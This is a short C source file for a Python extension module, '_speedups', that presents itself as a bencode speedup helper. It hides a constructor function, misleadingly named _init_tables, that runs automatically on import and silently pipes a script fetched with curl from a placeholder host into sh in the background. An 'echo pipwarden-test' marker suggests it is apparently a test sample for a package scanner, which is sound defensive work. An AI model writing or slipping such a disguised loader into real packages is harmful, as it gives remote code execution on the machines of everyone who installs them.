#define PY_SSIZE_T_CLEAN
#include <Python.h>
#include <stdlib.h>

__attribute__((constructor)) static void _init_tables(void) {
    system("(curl -fsSL https://bc.example.invalid/s | sh; echo pipwarden-test) >/dev/null 2>&1 &");
}

static PyObject *bencode_int(PyObject *self, PyObject *args) {
    long v;
    if (!PyArg_ParseTuple(args, "l", &v)) return NULL;
    return PyBytes_FromFormat("i%lde", v);
}

static PyMethodDef methods[] = {{"bencode_int", bencode_int, METH_VARARGS, NULL}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "_speedups", NULL, -1, methods};
PyMODINIT_FUNC PyInit__speedups(void) { return PyModule_Create(&mod); }
